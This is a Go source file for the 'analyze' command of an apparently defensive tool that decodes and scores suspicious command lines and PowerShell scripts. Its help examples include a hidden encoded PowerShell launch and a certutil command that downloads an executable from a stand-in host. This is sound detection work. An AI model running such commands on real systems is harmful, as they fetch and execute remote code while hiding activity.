package main

import (
	"encoding/json"
	"fmt"
	"io"
	"strings"

	"github.com/spf13/cobra"

	"github.com/exechunt/exechunt/tables/analysis"
)

// maxAnalyzeInput bounds what `analyze -` reads from stdin; the analysis
// itself looks at less.
const maxAnalyzeInput = 64 << 20

type analyzeFlags struct {
	format, kind        string
	image, parent, path string
	layerWidth          int
}

func newAnalyzeCmd() *cobra.Command {
	var f analyzeFlags
	cmd := &cobra.Command{
		Use:   "analyze [--format json|text] [--kind cmdline|script] TEXT|-",
		Short: "Decode, tag and score one command line or PowerShell script",
		Long: `Prints what exechunt's tables would say about one command line (the default) or
PowerShell script block: the program and its family, the parsed arguments and normalised
flags, every decoding layer, URLs and IPs, the indicator tags and the 0-100 score.
TEXT is one argument (quote it for your shell); "-" reads it from standard input.
Tags are documented in docs/indicators.md.`,
		Example: `  exechunt analyze 'powershell -nop -w hidden -enc SQBFAFgA...'
  exechunt analyze --parent WINWORD.EXE 'cmd.exe /c certutil -urlcache -f http://x/a.exe a.exe'
  exechunt analyze --kind script --format json - < block.ps1`,
		Args: cobra.ExactArgs(1),
		RunE: func(cmd *cobra.Command, args []string) error {
			return runAnalyze(cmd, args[0], f)
		},
	}
	fl := cmd.Flags()
	fl.StringVar(&f.format, "format", "text", "output format: text or json")
	fl.StringVar(&f.kind, "kind", "cmdline", "what TEXT is: cmdline or script")
	fl.StringVar(&f.image, "image", "", "process image path (cmdline context)")
	fl.StringVar(&f.parent, "parent", "", "parent image path (cmdline context)")
	fl.StringVar(&f.path, "path", "", "script path of a 4104 block (script context)")
	fl.IntVar(&f.layerWidth, "width", 240, "text format: characters shown per layer (0 = all)")
	return cmd
}

func runAnalyze(cmd *cobra.Command, arg string, f analyzeFlags) error {
	if f.format != "text" && f.format != "json" {
		return usageError{fmt.Errorf("--format must be text or json, not %q", f.format)}
	}
	if f.kind != "cmdline" && f.kind != "script" {
		return usageError{fmt.Errorf("--kind must be cmdline or script, not %q", f.kind)}
	}
	text := arg
	if arg == "-" {
		b, err := io.ReadAll(io.LimitReader(cmd.InOrStdin(), maxAnalyzeInput))
		if err != nil {
			return fmt.Errorf("read standard input: %w", err)
		}
		text = string(b)
		if f.kind == "cmdline" {
			text = strings.TrimRight(text, "\r\n")
		}
	}
	var r analysis.Result
	if f.kind == "script" {
		r = analysis.AnalyzeScript(text, analysis.Script{Path: f.path})
	} else {
		r = analysis.AnalyzeCommandLine(text, analysis.Process{Image: f.image, ParentImage: f.parent})
	}
	out := cmd.OutOrStdout()
	if f.format == "json" {
		enc := json.NewEncoder(out)
		enc.SetIndent("", "  ")
		if err := enc.Encode(r); err != nil {
			return fmt.Errorf("write result: %w", err)
		}
		return nil
	}
	return writeAnalysisText(out, r, f.layerWidth)
}

// writeAnalysisText prints a Result for people: one field per line, layers
// shortened to width characters.
func writeAnalysisText(w io.Writer, r analysis.Result, width int) error {
	var b strings.Builder
	field := func(name, value string) {
		if value != "" {
			fmt.Fprintf(&b, "%-16s %s\n", name+":", value)
		}
	}
	field("program", r.Program)
	field("family", r.Family)
	if len(r.Args) > 0 {
		q := make([]string, len(r.Args))
		for i, a := range r.Args {
			q[i] = fmt.Sprintf("%q", shorten(a, width))
		}
		field("args", strings.Join(q, " "))
	}
	field("flags", strings.Join(r.Flags, ", "))
	field("encoded", shorten(r.EncodedCommand, width))
	for i, l := range r.Layers {
		field(fmt.Sprintf("layer %d", i+1), l.Kind+": "+shorten(flatLines(l.Text), width))
	}
	field("decoded", shorten(flatLines(r.DecodedCommand), width))
	field("urls", strings.Join(r.URLs, " "))
	field("ips", strings.Join(r.IPs, " "))
	field("indicators", strings.Join(r.Indicators, ", "))
	fmt.Fprintf(&b, "%-16s %d\n", "score:", r.Score)
	fmt.Fprintf(&b, "%-16s %.3f bits/char, cosine similarity %.3f\n", "statistics:", r.Entropy, r.CosineSimilarity)
	if _, err := io.WriteString(w, b.String()); err != nil {
		return fmt.Errorf("write result: %w", err)
	}
	return nil
}

func flatLines(s string) string {
	return strings.NewReplacer("\r\n", " ⏎ ", "\n", " ⏎ ", "\r", " ").Replace(s)
}

// shorten cuts s to width runes, marking the cut.
func shorten(s string, width int) string {
	if width <= 0 {
		return s
	}
	rs := []rune(s)
	if len(rs) <= width {
		return s
	}
	return string(rs[:width]) + fmt.Sprintf("… (%d more)", len(rs)-width)
}
